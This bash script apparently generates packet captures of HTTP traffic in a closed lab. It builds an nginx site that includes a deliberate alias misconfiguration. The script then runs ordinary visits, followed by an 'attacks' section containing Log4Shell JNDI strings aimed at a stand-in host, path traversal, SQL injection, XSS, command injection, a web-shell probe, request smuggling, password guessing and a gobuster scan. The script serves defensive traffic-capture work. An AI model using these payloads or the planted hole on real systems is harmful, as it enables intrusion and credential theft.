# shellcheck shell=bash disable=SC2154
# Part of record.sh: HTTP in clear. A web site, who visits it, and who attacks it.

# The files of the site. Their bytes are the same each time, so that their hashes are.
site() {
    local name
    mkdir -p "$work/www"/{new,docs,pictures,tools,pre,private,files,images,uploads,etc} "$work/got" "$work/temporary"
    printf '<!doctype html>\n<title>Corp</title>\n<h1>Corp</h1>\n<p>Nothing to sell.\n' >"$work/www/index.html"
    printf '<!doctype html>\n<title>Corp, again</title>\n' >"$work/www/new/index.html"
    seq -f 'line %05g of the report' 1 800 >"$work/www/report.txt"
    head -c 8000 /dev/zero | openssl enc -aes-128-ctr -K 00 -iv 00 2>/dev/null >"$work/www/data.bin"
    seq 1 600 | sed 's/.*/&,item &,&.00/' >"$work/www/docs/prices.csv"
    for name in brotli zstd; do "$name" -c "$work/www/docs/prices.csv" >"$work/www/pre/prices.$name" 2>/dev/null; done
    # Programs that do nothing, by the names of other things and by their own.
    python3 "$here/record/program.py" elf >"$work/www/pictures/holiday.jpg"
    python3 "$here/record/program.py" pe >"$work/www/docs/invoice.pdf"
    python3 "$here/record/program.py" pe >"$work/www/tools/setup.exe"
    printf '#!/bin/sh\necho installing\n' >"$work/www/tools/install.sh"
    printf 'the plan\n' >"$work/www/private/plan.txt"
    printf 'alice:{PLAIN}correct\n' >"$work/users"
    # What an attack gets that works.
    printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' >"$work/www/etc/passwd"
    printf '%s\n' 192.0.2.80' www.corp.example' 192.0.2.81' api.corp.example' '2001:db8::80 six.corp.example' 192.0.2.1' proxy.corp.example' \
        >"$work/hosts"
}

# nginx with the site; what it wrote into its log is kept beside the capture.
site_server() {
    cat >"$work/site.conf" <<CONF
worker_processes 1; pid $work/site.pid; daemon off; user root;
events { worker_connections 64; }
http {
    types { text/html html; text/plain txt sh; text/csv csv; image/jpeg jpg; application/pdf pdf; }
    default_type application/octet-stream;
    log_format said '\$server_addr:\$server_port \$remote_addr "\$request" \$status \$body_bytes_sent "\$http_user_agent"';
    access_log off; keepalive_timeout 5;
    client_body_temp_path $work/temporary; proxy_temp_path $work/temporary; fastcgi_temp_path $work/temporary;
    uwsgi_temp_path $work/temporary; scgi_temp_path $work/temporary;
    gzip_types text/plain; gzip_min_length 1000;
    server {
        listen 192.0.2.80:80; listen 192.0.2.80:8080 http2; listen [2001:db8::80]:80;
        server_name www.corp.example; root $work/www; access_log $work/site.log said; gzip on;
        location = /old { return 301 http://www.corp.example/new/; }
        location /pre/ { default_type text/csv; }
        location = /pre/prices.brotli { default_type text/csv; add_header Content-Encoding br; }
        location = /pre/prices.zstd { default_type text/csv; add_header Content-Encoding zstd; }
        location /private/ { auth_basic corp; auth_basic_user_file $work/users; }
        location = /login { if (\$request_method = GET) { return 200 'who are you?'; } add_header Set-Cookie 'session=0123456789abcdef; HttpOnly'; return 302 /account; }
        location = /account { return 200 'your account'; }
        location = /api/items { default_type application/json; return 201 '{"id": 7}'; }
        location = /upload { proxy_pass http://127.0.0.1:8001; client_max_body_size 1m; }
        location /files/ { dav_methods PUT DELETE; client_max_body_size 1m; }
        # The mistake of a missing slash, which leads out of the folder.
        location /images { alias $work/www/images/; }
        location = /search { return 200 'nothing found'; }
        location = /uploads/cmd.php { return 200 'uid=33(www-data) gid=33(www-data) groups=33(www-data)'; }
    }
    server { listen 192.0.2.81:80; server_name api.corp.example; access_log $work/site.log said;
        location / { return 200 '{"ok": true}'; } location /orders { proxy_pass http://127.0.0.1:9; } }
    server { listen 127.0.0.1:8000; root $work/www; }
    server { listen 127.0.0.1:8001; location / { return 204; } }
}
CONF
    serve site named server nginx -c "$work/site.conf" -e "$work/site-error.log"
    # HTTP/2 behind an upgrade, which nginx does not offer.
    serve upgrade on server nghttpx --conf=/dev/null --workers=1 --no-ocsp '--frontend=192.0.2.80,8081;no-tls' '--backend=127.0.0.1,8000'
}

http() {
    office
    plug client 21 192.0.2.21/24 2001:db8::21/64
    plug gateway 01 192.0.2.1/24
    plug server 80 192.0.2.80/24 192.0.2.81/24 2001:db8::80/64
    plug outside 66 192.0.2.66/24
    site
    site_server
    printf '%s\n' 'User root' 'Group root' 'Port 3128' 'Listen 192.0.2.1' 'Timeout 20' 'Allow 192.0.2.0/24' 'BasicAuth alice correct' \
        'ConnectPort 80' >"$work/tinyproxy.conf"
    serve proxy named gateway tinyproxy -d -c "$work/tinyproxy.conf"
    sleep 2
    record switch br0 http.pcap tcp
    visits
    attacks
    sleep 6
    stop http.pcap
    install -m 644 "$work/site.log" "$captures/said/http.log"
    (cd "$work/got" && sha256sum -- *) >"$captures/said/http.sha256"
}

# keep NAME OPTION... URL...: what curl gets is kept in $work/got/NAME, to be hashed.
keep() { named client curl -q -s -S --max-time 10 -o "$work/got/$1" "${@:2}" >>"$work/curl.log" 2>&1 || true; }
# see OPTION... URL...: the same, and nothing is kept.
see() { named client curl -q -s -S --max-time 10 "$@" >>"$work/curl.log" 2>&1 || true; }

# Lines of a request, without a program that would mend them: raw HOST LINE...
raw() {
    local request
    request=$(printf '%s\r\n' "${@:2}" .)
    # shellcheck disable=SC2016
    named "$1" timeout 5 bash -c 'exec 3<>/dev/tcp/192.0.2.80/80; printf %s "$1" >&3; cat <&3' bash "${request%.*}" >>"$work/curl.log" 2>&1 || true
}

# Ordinary ways to use a site.
visits() {
    local site=http://www.corp.example
    keep index.html "$site/"
    keep report.txt --compressed "$site/report.txt"
    see -I "$site/report.txt"
    see -r 0-99 "$site/data.bin"
    see -r 0-99,1000-1099 "$site/data.bin"
    see --etag-save "$work/etag" "$site/data.bin" -o "$work/got/data.bin"
    see --etag-compare "$work/etag" "$site/data.bin" -o "$work/nothing"
    see -L "$site/old"
    see "$site/missing.html"
    see -X TRACE "$site/"
    see -0 "$site/new/"
    # Three requests on one connection, one behind the other; and three at once.
    see "$site/" "$site/new/" "$site/missing.html"
    raw client 'GET / HTTP/1.1' 'Host: www.corp.example' '' 'GET /new/ HTTP/1.1' 'Host: www.corp.example' '' \
        'GET /report.txt HTTP/1.1' 'Host: www.corp.example' 'Connection: close' ''
    keep prices.csv --compressed "$site/pre/prices.brotli"
    keep prices-zstd.csv "$site/pre/prices.zstd" -H 'Accept-Encoding: zstd' --compressed
    # Who says who he is: Basic, a form, a cookie.
    see "$site/private/plan.txt"
    keep plan.txt -u alice:correct "$site/private/plan.txt"
    see -d 'user=alice&password=correct' "$site/login"
    see -b 'session=0123456789abcdef; theme=dark' "$site/account"
    see -H 'Content-Type: application/json' -d '{"name": "chair", "price": 40}' "$site/api/items"
    # Uploads: a form, PUT, PUT in chunks, and one that asks first.
    see -F "file=@$work/www/docs/prices.csv" -F comment=hello "$site/upload"
    see -T "$work/www/data.bin" "$site/files/data.bin"
    see -H 'Transfer-Encoding: chunked' -T - "$site/files/report.txt" <"$work/www/report.txt"
    see -H 'Expect: 100-continue' -T "$work/www/docs/prices.csv" "$site/files/prices.csv"
    see -X DELETE "$site/files/data.bin"
    # Programs, by other names and by their own; one goes up.
    keep holiday.jpg "$site/pictures/holiday.jpg"
    keep invoice.pdf "$site/docs/invoice.pdf"
    keep setup.exe "$site/tools/setup.exe"
    keep install.sh "$site/tools/install.sh"
    see -T "$work/www/tools/setup.exe" "$site/files/helper.exe"
    # Through a proxy that wants a password: a page, a tunnel, and a tunnel to a port that it does not allow.
    see -x http://proxy.corp.example:3128 "$site/"
    see -x http://proxy.corp.example:3128 -U alice:correct "$site/new/"
    see -x http://proxy.corp.example:3128 -U alice:correct -p "$site/"
    see -x http://proxy.corp.example:3128 -U alice:correct -p "$site:25/"
    # HTTP/2: from the start, several at once on one connection; behind an upgrade. IPv6.
    named client nghttp -n "$site:8080/" "$site:8080/new/" "$site:8080/docs/prices.csv" "$site:8080/missing.html" >>"$work/curl.log" 2>&1 || true
    see --http2-prior-knowledge -d 'a=1' "$site:8080/api/items"
    keep upgraded.html --http2 "$site:8081/"
    keep six.html http://six.corp.example/
    # A service that fails: what is behind it is not there.
    local n
    for n in 1 2 3 4 5 6; do see "http://api.corp.example/orders/$n"; done
    for n in 1 2 3 4; do see "http://api.corp.example/state/$n"; done
}

# From outside: what scanners try, and a few things that work.
attacks() {
    local site=http://www.corp.example n
    bad() { named outside curl -q -s -S --max-time 10 --path-as-is "$@" >>"$work/curl.log" 2>&1 || true; }
    # shellcheck disable=SC2016
    bad -A '${jndi:ldap://192.0.2.66:1389/a}' "$site/"
    # shellcheck disable=SC2016
    bad -H 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://192.0.2.66/b}' "$site/"
    bad "$site/../../../../etc/passwd"
    bad "$site/images../etc/passwd"
    bad "$site/images/..%2f..%2f..%2fetc%2fpasswd"
    bad "$site/search?q=1%27%20UNION%20SELECT%20name,password%20FROM%20users--"
    bad "$site/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
    bad "$site/search?q=;cat%20/etc/passwd"
    bad "$site/uploads/cmd.php?cmd=id"
    raw outside 'POST /search HTTP/1.1' 'Host: www.corp.example' 'Content-Length: 6' 'Transfer-Encoding: chunked' '' 0 '' X
    # Twelve passwords within some seconds, the last one right.
    for n in 123456 password qwerty letmein admin welcome monkey dragon summer corp2026 alice correct; do
        bad -u "alice:$n" "$site/private/plan.txt"
    done
    printf '%s\n' admin backup cgi-bin config console data db debug docs dump files git hidden home images include install js logs manager \
        old pictures php private server-status shell sql test tmp tools upload users wp-admin wp-login.php >"$work/words"
    named outside gobuster dir -q --no-progress --no-error -t 1 -u "$site/" -w "$work/words" >>"$work/curl.log" 2>&1 || true
}
